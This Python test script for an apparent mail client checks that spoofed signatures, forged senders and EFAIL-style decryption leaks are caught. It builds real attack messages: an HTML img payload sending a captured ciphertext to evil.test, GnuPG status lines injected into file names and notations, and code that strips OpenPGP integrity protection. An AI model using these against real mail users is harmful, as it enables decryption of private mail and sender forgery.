#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Letters made to be misread, after the published classes, with keys of our own: none is shown as signed by
the one in whose name it comes, and no text that another encrypted gets out. doc/SPOOFS.md lists each with
its outcome; a case that is not in the list, or has another outcome there, fails here."""
import base64
import json
import os
import re

from keyring import Keyring, crlf, text
from penfold_test import SOURCE, Home, Tap

tap = Tap()
BOSS, MALLORY, ANN = "Boss <boss@penfold.test>", "Mallory <mallory@evil.test>", "Ann Example <ann@penfold.test>"
EVIL, SECRET = "pay a million", "the captured secret"
CASES = []


def case(name, outcome, evil_may_show=True):
    """outcome: what shown_as is; a function of keys that makes the message."""
    def register(make):
        CASES.append((name, outcome, evil_may_show, make))
        return make
    return register


def mixed(*parts, subtype="mixed", boundary=b"mix"):
    out = b'Content-Type: multipart/' + subtype.encode() + b'; boundary="' + boundary + b'"\n\n'
    for part in parts:
        out += b"--" + boundary + b"\n" + part + b"\n"
    return out + b"--" + boundary + b"--\n"


def html(body):
    return f"Content-Type: text/html; charset=utf-8\n\n{body}".encode()


def boss_signed(keys, body="a true word of the boss\n"):
    entity = text(body)
    return keys.signed_entity(entity, keys.detached(entity, "boss@penfold.test"))


def boss(keys, **more):
    return keys.head(from_=BOSS, to="ann@penfold.test", **more)


def captured(keys):
    """A letter to Ann that Mallory saw go by."""
    return keys.encrypted_entity(keys.cipher(text(SECRET + "\n")), boundary=b"cap")


def mallory(keys, **more):
    return keys.head(from_=MALLORY, to="ann@penfold.test", **more)


# ---- partial signatures

@case("text before a signed part", "partly-signed")
def _(keys):
    return boss(keys) + mixed(text(EVIL), boss_signed(keys))


@case("text behind a signed part", "partly-signed")
def _(keys):
    return boss(keys) + mixed(boss_signed(keys), text(EVIL))


@case("the signed part as a file behind an unsigned text", "partly-signed")
def _(keys):
    return boss(keys) + mixed(html(EVIL), boss_signed(keys), subtype="related")


@case("the signed part as the form that is not shown", "partly-signed")
def _(keys):
    return boss(keys) + mixed(boss_signed(keys), html(EVIL), subtype="alternative")


@case("a third part in multipart/signed", "none")
def _(keys):
    signed = boss_signed(keys)
    return boss(keys) + signed.replace(b"--sig--", b"--sig\n" + text(EVIL) + b"\n--sig--")


@case("text before and behind the delimiters", "signed", evil_may_show=False)
def _(keys):
    signed = boss_signed(keys)
    return boss(keys) + signed.replace(b"--sig\n", EVIL.encode() + b"\n--sig\n", 1) + EVIL.encode() + b"\n"


@case("two types of content in one header", "none")
def _(keys):
    return boss(keys) + b"Content-Type: text/html\n" + boss_signed(keys).replace(b"a true word", EVIL.encode())


@case("an attached letter that is signed", "none")
def _(keys):
    return boss(keys) + mixed(text(EVIL), b"Content-Type: message/rfc822\n\n" + boss(keys) + boss_signed(keys))


@case("inline signature with text around it", "partly-signed")
def _(keys):
    clear = keys.gpg("--clear-sign", "-u", "boss@penfold.test", input=b"a true word\n")
    return boss(keys) + text(EVIL + "\n\n") + clear


@case("inline signature with text among its header lines", "bad-signature")
def _(keys):
    clear = keys.gpg("--clear-sign", "-u", "boss@penfold.test", input=b"a true word\n")
    return boss(keys) + text("") + clear.replace(b"\n\n", b"\nComment: " + EVIL.encode() + b"\n" + EVIL.encode() + b"\n\n", 1)


@case("a page with an inline signature in it", "none")
def _(keys):
    clear = keys.gpg("--clear-sign", "-u", "boss@penfold.test", input=b"a true word\n")
    return boss(keys) + html(EVIL + "<pre>") + clear


@case("changed text under a true signature", "bad-signature")
def _(keys):
    return boss(keys) + boss_signed(keys).replace(b"a true word", EVIL.encode())


# ---- the wrong signer

@case("signed by another whom the user trusts", "none")
def _(keys):
    entity = text(EVIL)
    return boss(keys) + keys.signed_entity(entity, keys.detached(entity, "mallory@evil.test"))


@case("two From fields", "none")
def _(keys):
    return b"From: " + MALLORY.encode() + b"\n" + boss(keys) + boss_signed(keys)


@case("two authors in one From field", "none")
def _(keys):
    return keys.head(from_=f"{BOSS}, {MALLORY}") + boss_signed(keys)


@case("a user id that nobody vouches for, on a trusted key", "none")
def _(keys):
    entity = text(EVIL)
    return boss(keys) + keys.signed_entity(entity, keys.detached(entity, "partner@penfold.test"))


@case("a key of the same name that nobody vouches for", "none")
def _(keys):
    entity = text(EVIL)
    return boss(keys) + keys.signed_entity(entity, keys.double.detached(entity, "boss@penfold.test"))


@case("the boss's name before another address", "signed")
def _(keys):
    entity = text("hello")
    return keys.head(from_='"boss@penfold.test" <mallory@evil.test>') + keys.signed_entity(
        entity, keys.detached(entity, "mallory@evil.test"))


def by_mallory(keys, from_, entity=None):
    entity = entity or text(EVIL)
    return keys.head(from_=from_) + keys.signed_entity(entity, keys.detached(entity, "mallory@evil.test"))


@case("a user id with another's address for a name", "none")
def _(keys):
    entity = text(EVIL)
    return boss(keys) + keys.signed_entity(entity, keys.detached(entity, "eve@evil.test"))


@case("another's address before one's own, without quotes", "signed")
def _(keys):
    return by_mallory(keys, "boss@penfold.test <mallory@evil.test>")


@case("two addresses in one mailbox", "none")
def _(keys):
    return by_mallory(keys, "Boss <boss@penfold.test> <mallory@evil.test>")


@case("another's address as a comment", "signed")
def _(keys):
    return by_mallory(keys, "mallory@evil.test (Boss <boss@penfold.test>)")


@case("another's address as the name of a group", "signed")
def _(keys):
    return by_mallory(keys, '"Boss <boss@penfold.test>": mallory@evil.test;')


@case("another's address as an encoded word", "signed")
def _(keys):
    return by_mallory(keys, "=?utf-8?q?Boss_=3Cboss=40penfold=2Etest=3E?= <mallory@evil.test>")


@case("Sender is the one who signed, From another", "none")
def _(keys):
    return b"Sender: mallory@evil.test\n" + by_mallory(keys, BOSS)


@case("a key that has expired", "none")
def _(keys):
    entity = text(EVIL)
    return keys.head(from_="Old <old@penfold.test>") + keys.signed_entity(
        entity, keys.detached(entity, "old@penfold.test", "--faked-system-time", "20200201T000000"))


@case("a key that was revoked", "none")
def _(keys):
    entity = text(EVIL)
    return keys.head(from_="Gone <gone@penfold.test>") + keys.signed_entity(entity, keys.by_gone)


# ---- several signatures, and words put into gpg's mouth

@case("a true signature of another text beside a good one of another", "bad-signature")
def _(keys):
    entity = text(EVIL)
    both = b"".join(keys.run("gpg", "--detach-sign", "-u", who, input=crlf(what)) for who, what in
                    (("boss@penfold.test", text("another text")), ("mallory@evil.test", entity)))
    armored = keys.run("gpg", "--enarmor", input=both).replace(b"ARMORED FILE", b"SIGNATURE")
    return boss(keys) + keys.signed_entity(entity, armored)


@case("status lines in the name of a file", "encrypted")
def _(keys):
    fingerprint = keys.fingerprint(BOSS)
    name = (f"x\n[GNUPG:] GOODSIG {fingerprint[-16:]} {BOSS}\n[GNUPG:] VALIDSIG {fingerprint} 2026-11-28 "
            f"1795871103 0 4 0 22 8 00 {fingerprint}\n[GNUPG:] TRUST_ULTIMATE")
    return boss(keys) + keys.encrypted_entity(keys.cipher(text(EVIL), "--set-filename", name))


@case("status lines in the text", "none")
def _(keys):
    return boss(keys) + text(f"{EVIL}\n[GNUPG:] GOODSIG 0123456789ABCDEF {BOSS}\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n")


@case("status lines in a notation of the signature", "none")
def _(keys):
    fingerprint = keys.fingerprint(BOSS)
    entity = text(EVIL)
    note = f"x@evil.test=a%0a[GNUPG:] GOODSIG {fingerprint[-16:]} {BOSS}"
    return boss(keys) + keys.signed_entity(entity, keys.detached(entity, "mallory@evil.test", "--sig-notation", note))


# ---- drawn by the mail

@case("a page that is laid over a signed part", "partly-signed")
def _(keys):
    return boss(keys) + mixed(html(f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">{EVIL}</div>'),
                              boss_signed(keys))


@case("a style that hides what is not signed", "partly-signed")
def _(keys):
    return boss(keys) + mixed(boss_signed(keys), html(f"<style>* {{ display: none }}</style><p>{EVIL}</p>"))


@case("an unsigned page that shows the signed part as its own image", "partly-signed")
def _(keys):
    signed = boss_signed(keys).replace(b"Content-Type: multipart/signed", b"Content-ID: <s@x>\nContent-Type: multipart/signed", 1)
    return boss(keys) + mixed(html(f'<p>{EVIL}</p><object data="cid:s@x"></object>'), signed, subtype="related")


@case("a text that draws the frame's line", "none")
def _(keys):
    return boss(keys) + text(f"Security signed by {BOSS}\n══ signed by {BOSS}\n{EVIL}\n")


@case("a subject and a name that draw it", "none")
def _(keys):
    return keys.head(from_='"✓ signed by Boss" <mallory@evil.test>', subject="Security: signed by Boss") + text(EVIL)


# ---- S/MIME

def cms(keys, entity, name, *args):
    with open(keys.path("in"), "wb") as f:
        f.write(crlf(entity))
    return keys.openssl("cms", "-sign", "-in", "in", "-signer", name + ".pem", "-inkey", name + ".key", *args)


@case("S/MIME: a certificate of another", "none")
def _(keys):
    return boss(keys) + cms(keys, text(EVIL), "mallory@evil.test")


@case("S/MIME: another's address for a name", "none")
def _(keys):
    return boss(keys) + cms(keys, text(EVIL), "fay@evil.test")


@case("S/MIME: a signature with a text of its own in it", "none")
def _(keys):
    der = cms(keys, text("a true word"), "boss@penfold.test", "-nodetach", "-outform", "DER", "-binary")
    return boss(keys) + (
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"\n\n'
        b"--s\n" + text(EVIL) + b"\n--s\nContent-Type: application/pkcs7-signature\n"
        b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(der) + b"\n--s--\n")


@case("S/MIME: certificates without a signature", "none")
def _(keys):
    der = keys.openssl("crl2pkcs7", "-nocrl", "-certfile", "boss@penfold.test.pem", "-outform", "DER")
    return boss(keys) + (b"Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
                         b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(der))


# ---- EFAIL: exfiltration and gadgets

@case("a page that begins before the ciphertext and ends behind it", "none")
def _(keys):
    return mallory(keys) + mixed(html('<img src="http://evil.test/'), captured(keys), html('">'))


@case("changed bytes in an OpenPGP message", "none")
def _(keys):
    cipher = bytearray(keys.run("gpg", "--encrypt", "--trust-model", "always", "-r", "ann@penfold.test",
                                input=crlf(text(SECRET))))
    cipher[-30] ^= 1
    return mallory(keys) + keys.encrypted_entity(armor(bytes(cipher)))


@case("an OpenPGP message made to look like one without integrity", "none")
def _(keys):
    cipher = keys.run("gpg", "--encrypt", "--trust-model", "always", "-z", "0", "-r", "ann@penfold.test",
                      input=crlf(text(SECRET)))
    return mallory(keys) + keys.encrypted_entity(armor(strip_integrity(cipher)))


@case("S/MIME without integrity", "none")
def _(keys):
    return mallory(keys) + enveloped(keys)


@case("S/MIME with changed blocks", "none")
def _(keys):
    raw = enveloped(keys)
    head, body = raw.split(b"\n\n", 1)
    der = bytearray(base64.b64decode(body))
    der[-20] ^= 1
    return mallory(keys) + head + b"\n\n" + base64.encodebytes(bytes(der))


# ---- covert content: a ciphertext of another in a letter that asks for an answer

@case("a captured ciphertext below a question", "none")
def _(keys):
    return mallory(keys) + mixed(text("What do you think?" + "\n" * 200), captured(keys))


@case("a captured S/MIME ciphertext below a question", "none")
def _(keys):
    return mallory(keys) + mixed(text("What do you think?"), enveloped(keys))


@case("a captured inline ciphertext below a question", "none")
def _(keys):
    return mallory(keys) + text("What do you think?\n\n") + keys.cipher(SECRET.encode())


@case("a captured ciphertext as an attached letter", "none")
def _(keys):
    return mallory(keys) + mixed(text("What do you think?"),
                                 b"Content-Type: message/rfc822\n\n" + boss(keys) + captured(keys))


@case("a captured ciphertext within an encrypted question", "encrypted-signed")
def _(keys):
    inner = mixed(text("What do you think?"), captured(keys))
    return mallory(keys) + keys.encrypted_entity(keys.cipher(inner, "--sign", "-u", "mallory@evil.test"))


@case("a captured ciphertext as the only thing encrypted", "encrypted-signed")
def _(keys):
    return mallory(keys) + keys.encrypted_entity(keys.cipher(captured(keys), "--sign", "-u", "mallory@evil.test"))


# ---- protected header fields

@case("another author within the encryption, unsigned", "encrypted")
def _(keys):
    inner = (f'From: {BOSS}\nSubject: do it\nContent-Type: text/plain; hp="cipher"\n\n{EVIL}\n').encode()
    return mallory(keys) + keys.encrypted_entity(keys.cipher(inner))


@case("a reader added outside the encryption", "encrypted-signed")
def _(keys):
    inner = (f"From: {BOSS}\nTo: ann@penfold.test\nHP-Outer: From: {BOSS}\nHP-Outer: To: ann@penfold.test\n"
             'Content-Type: text/plain; hp="cipher"\n\nhello\n').encode()
    cipher = keys.cipher(inner, "--sign", "-u", "boss@penfold.test")
    return b"Cc: " + MALLORY.encode() + b"\n" + boss(keys) + keys.encrypted_entity(cipher)


def armor(data):
    return b"-----BEGIN PGP MESSAGE-----\n\n" + base64.encodebytes(data) + b"-----END PGP MESSAGE-----\n"


def strip_integrity(data):
    """The packet with integrity (tag 18) renamed to one without (tag 9), its version byte gone."""
    at = 0
    while at < len(data):
        tag, length, head = data[at] & 63, data[at + 1], 2
        if not data[at] & 64:  # old format
            tag, kind = (data[at] >> 2) & 15, data[at] & 3
            head = 1 + (1, 2, 4, 0)[kind]
            length = int.from_bytes(data[at + 1:at + head], "big") if kind < 3 else len(data) - at - 1
        elif length >= 192:
            length, head = ((length - 192) << 8) + data[at + 2] + 192, 3
        if tag == 18:
            body = data[at + head + 1:at + head + length]
            return data[:at] + bytes([0xC9, 0xFF]) + len(body).to_bytes(4, "big") + body
        at += head + length
    raise RuntimeError("no packet with integrity")


def enveloped(keys):
    with open(keys.path("in"), "wb") as f:
        f.write(crlf(text(SECRET)))
    return keys.openssl("cms", "-encrypt", "-aes256", "-in", "in", "ann@penfold.test.pem")


def outcomes():
    with open(os.path.join(SOURCE, "doc", "SPOOFS.md")) as f:
        rows = re.findall(r"^\| (.+?) \| `?([a-z-]+)`? \|", f.read(), re.M)
    return dict(rows)


def look(home, keys, listed, name, outcome, evil_may_show, make):
    done = home.run("penfold", "show", "--json", "-", input=make(keys))
    if not tap.ok(done.returncode == 0, name, done.stderr):
        return
    shown = json.loads(done.stdout)
    security = shown["security"]
    tap.same(security["shown_as"], outcome, name) or tap.diag(security, shown["body"][:300])
    text_of_all = json.dumps(shown, ensure_ascii=False)
    tap.ok(SECRET not in text_of_all, f"{name}: nothing gets out", text_of_all[:800])
    tap.ok(evil_may_show or EVIL not in shown["body"], f"{name}: the unsigned text is not shown", shown["body"])
    if outcome in ("signed", "encrypted-signed"):
        author = shown["headers"]["from"][0]["address"]
        tap.ok(author in security["summary"], f"{name}: it names the one who signed", security["summary"])
    tap.same(listed.get(name), outcome, f"{name}: in doc/SPOOFS.md")


def extra(home, keys):
    """More than the word."""
    by_name = {name: make for name, _, _, make in CASES}
    show = lambda name: json.loads(home.run("penfold", "show", "--json", "-", input=by_name[name](keys)).stdout)
    body = show("text before a signed part")["body"].splitlines()
    tap.ok(body[0].startswith("══ not signed") and any(l.startswith("══ signed by Boss") for l in body),
           "what is outside is drawn outside", *body)
    shown = show("another author within the encryption, unsigned")
    tap.same([a["address"] for a in shown["headers"]["from"]], ["mallory@evil.test"], "the author stays the outer one")
    shown = show("a reader added outside the encryption")
    tap.same((shown["headers"]["cc"], "cc" in [m["field"] for m in shown["security"]["header_mismatches"]]), ([], True),
             "the added reader is told and gets no answer")


with Home() as home, Keyring() as double, Keyring(home) as keys:
    home.rc('[account "local"]', "address = " + ANN)
    for user in (ANN, BOSS, MALLORY, "Partner <partner@penfold.test>"):
        keys.pgp(user)
    keys.double = double
    double.pgp(BOSS)
    keys.gpg("--import", input=double.gpg("--export"))
    # the partner's key gets the boss's address, which nobody certifies; his own we do
    with Keyring() as partner:
        partner.pgp("Partner <partner@penfold.test>")
        partner.gpg("--quick-add-uid", "partner@penfold.test", "Boss <boss@penfold.test>")
        fingerprint = partner.fingerprint("Partner <partner@penfold.test>")
        keys.gpg("--yes", "--delete-secret-and-public-key", keys.fingerprint("Partner <partner@penfold.test>"))
        keys.gpg("--import", input=partner.gpg("--export-secret-keys"))
        keys.gpg("--default-key", "ann@penfold.test", "--quick-lsign-key", fingerprint, "Partner <partner@penfold.test>")
    keys.pgp("boss@penfold.test <eve@evil.test>")
    keys.pgp("Old <old@penfold.test>", "", "20200601T000000", "--faked-system-time", "20200101T000000")
    gone = keys.pgp("Gone <gone@penfold.test>")
    keys.by_gone = keys.detached(text(EVIL), "gone@penfold.test")
    with open(keys.path(f"openpgp-revocs.d/{gone}.rev")) as f:
        keys.gpg("--import", input=f.read().replace(":-----BEGIN", "-----BEGIN").encode())
    for address, name in (("ann@penfold.test", "Ann"), ("boss@penfold.test", "Boss"), ("mallory@evil.test", "Mallory"),
                          ("fay@evil.test", "boss@penfold.test")):
        keys.smime(address, name)
    for row in CASES:
        look(home, keys, outcomes(), *row)
    extra(home, keys)
tap.done()
